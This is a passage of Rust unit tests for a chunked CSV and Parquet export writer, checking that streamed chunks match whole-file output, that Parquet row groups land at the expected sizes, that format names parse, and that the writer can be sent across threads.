            written += chunk_rows.len();
            if let State::Parquet(parquet) = &writer.state {
                let ParquetState { buffered, file, .. } = &**parquet;
                assert_eq!(buffered.len(), written % GROUP);
                if let Some(file) = file {
                    assert!(file.inner().is_empty(), "the sink is drained");
                }
                // Bytes come out exactly when a row group is complete.
                assert_eq!(!chunk.is_empty(), written / GROUP > groups_before);
            }
            file.extend(chunk);
        }
        assert!(rest.is_empty());
        file.extend(writer.finish().unwrap());
        file
    }

    #[test]
    fn chunks_put_together_are_one_file() {
        let rows = many_rows(23);
        let sizes = [1, 0, 5, 2, 1, 9, 0, 3, 2];
        for format in [ExportFormat::Csv, ExportFormat::Parquet] {
            let whole = chunked(format, &rows, &[rows.len()]);
            let pieces = chunked(format, &rows, &sizes);
            assert_eq!(pieces, whole, "{format}");
        }
        let parquet = chunked(ExportFormat::Parquet, &rows, &sizes);
        let (row_groups, read_back) = read_parquet(&parquet);
        assert_eq!(row_groups, [4, 4, 4, 4, 4, 3]);
        assert_eq!(read_back, rows);
        let (_, records) = read_csv(&chunked(ExportFormat::Csv, &rows, &sizes));
        assert_eq!(records.len(), rows.len());
    }

    #[test]
    fn formats_parse_by_name() {
        assert_eq!("csv".parse::<ExportFormat>(), Ok(ExportFormat::Csv));
        assert_eq!("Parquet".parse::<ExportFormat>(), Ok(ExportFormat::Parquet));
        let error = "xlsx".parse::<ExportFormat>().unwrap_err();
        assert_eq!(
            error.to_string(),
            "unknown export format `xlsx`: expected `csv` or `parquet`"
        );
        assert_eq!(ExportFormat::Csv.content_type(), "text/csv; charset=utf-8");
        assert_eq!(ExportFormat::Parquet.extension(), "parquet");
    }

    #[test]
    fn a_writer_can_move_to_another_thread() {
        fn assert_send<T: Send>() {}
        assert_send::<AdLogWriter>();
    }
}
